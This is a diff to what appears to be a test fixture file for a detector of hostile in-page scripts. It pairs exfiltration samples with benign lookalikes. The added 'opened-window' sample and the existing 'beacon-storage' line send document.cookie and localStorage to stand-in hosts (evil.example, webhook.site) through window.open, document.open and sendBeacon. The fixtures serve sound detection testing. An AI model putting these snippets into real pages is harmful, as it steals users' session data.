@@ -265,6 +265,19 @@ export const MAIN_WORLD_SCRIPTS = {
   document.head.appendChild(sender);
 })();`,
 
+  /**
+   * The cookie carried off in the URL of a window it opens: `window.open`, `document.open(url, name, features)`
+   * (the same call by another name) and `window.open` given an object whose toString makes the address. Each
+   * window is closed at once: the address has gone out by then.
+   */
+  'opened-window': `(() => {
+  const c = encodeURIComponent(document.cookie);
+  const shut = (w) => { if (w) setTimeout(() => w.close(), 50); };
+  shut(window.open('https://evil.example/w-open?c=' + c, '_blank', ''));
+  shut(document.open('https://evil.example/w-document?c=' + c, 'helper-sink', ''));
+  shut(window.open({ toString: () => 'https://evil.example/w-object?c=' + c }));
+})();`,
+
   /** Leaks storage by sendBeacon to a webhook site. */
   'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,
 
@@ -473,6 +486,19 @@ export const BENIGN = {
   vector.appendChild(seal);
   document.body.append(banner, badge, vector);
   window.__gallery = true;
+})();`,
+  /**
+   * The shop's share buttons: a social network's share page (with the shop's own referral cookie in the URL)
+   * in a new window by `window.open`, the same by `document.open(url, name, features)`, and its own help page.
+   */
+  'share-window': `(() => {
+  const ref = encodeURIComponent(document.cookie);
+  const here = encodeURIComponent(location.href);
+  const shut = (w) => { if (w) setTimeout(() => w.close(), 50); };
+  shut(window.open('https://share.example/intent?u=' + here + '&ref=' + ref, 'share', ''));
+  shut(document.open('https://share.example/dialog?u=' + here, 'share-dialog', ''));
+  shut(window.open('/kz/pages/questions', 'help'));
+  window.__shared = true;
 })();`,
   /** A monitoring library (error/performance tracking) that wraps fetch and addEventListener, calling through. */
   monitoring: `(() => {
